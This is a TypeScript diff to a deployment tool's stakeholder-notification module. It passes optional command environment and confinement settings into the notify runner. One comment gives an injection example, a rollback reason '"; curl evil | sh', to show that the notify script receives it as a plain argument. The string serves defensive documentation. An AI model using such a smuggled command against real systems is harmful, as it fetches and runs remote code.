@@ -9,7 +9,7 @@
  * Good: a rollback reason `"; curl evil | sh` reaches the notify script as one plain argument.
  * Bad:  a Slack outage turning a good deploy into a failed one.
  */
-import { runArgv } from '../exec/run.js';
+import { runArgv, type ProjectCommands } from '../exec/run.js';
 import { NOTIFY_PLACEHOLDERS, type NotifyConfig, type NotifyEvent } from '../config/notify-schema.js';
 import type { ShipgateConfig } from '../config/schema.js';
 import type { StakeholderCommunication } from '../records/deploy-context.js';
@@ -71,13 +71,13 @@ function notifyStatus(record: DeploymentRecord): NotifyEvent | undefined {
 }
 
 /** Run the plan and describe what happened; never throws (a notify cannot change an outcome). */
-export async function sendNotification(plan: NotifyPlan, options: { projectRoot: string; env?: NodeJS.ProcessEnv; now?: () => Date }): Promise<StakeholderCommunication> {
+export async function sendNotification(plan: NotifyPlan, options: { projectRoot: string; env?: NodeJS.ProcessEnv; now?: () => Date; commands?: ProjectCommands }): Promise<StakeholderCommunication> {
   const at = (options.now ?? (() => new Date()))().toISOString();
   const secrets = secretEnvValues({ ...process.env, ...options.env });
   const redact = (text: string) => redactSecrets(text, secrets);
   const [file, ...args] = plan.argv;
   try {
-    const result = await runArgv(file!, args, { cwd: options.projectRoot, timeoutMs: plan.timeoutMs, maxOutput: MAX_OUTPUT, ...(options.env ? { env: options.env } : {}) });
+    const result = await runArgv(file!, args, { cwd: options.projectRoot, timeoutMs: plan.timeoutMs, maxOutput: MAX_OUTPUT, env: { ...options.env, ...options.commands?.env }, ...(options.commands?.confine ? { confine: options.commands.confine } : {}) });
     const ok = result.exitCode === 0 && !result.timedOut;
     const detail = ok ? 'exit 0' : result.timedOut ? `timed out after ${plan.timeoutMs} ms (notify.timeout)` : (result.spawnError ?? `exit ${result.exitCode}`);
     return { at, status: plan.status, command: plan.argv.map(redact), ok, exitCode: result.exitCode, timedOut: result.timedOut, durationMs: result.durationMs, stdout: redact(result.stdout), stderr: redact(result.stderr), detail: redact(detail) };
@@ -90,7 +90,7 @@ export async function sendNotification(plan: NotifyPlan, options: { projectRoot:
  * Notify for a finished record and add what happened to `record.facts.communications` (the caller
  * writes the record). Returns the communication, or undefined when nothing was configured for it.
  */
-export async function notifyStakeholders(input: { projectRoot: string; config: ShipgateConfig; record: DeploymentRecord; url?: string; env?: NodeJS.ProcessEnv; now?: () => Date }): Promise<StakeholderCommunication | undefined> {
+export async function notifyStakeholders(input: { projectRoot: string; commands?: ProjectCommands; config: ShipgateConfig; record: DeploymentRecord; url?: string; env?: NodeJS.ProcessEnv; now?: () => Date }): Promise<StakeholderCommunication | undefined> {
   const plan = planNotification(notifyConfigFor(input.config, input.record.environment), input.record, input.url);
   if (!plan || !input.record.facts) return undefined;
   const communication = await sendNotification(plan, input);
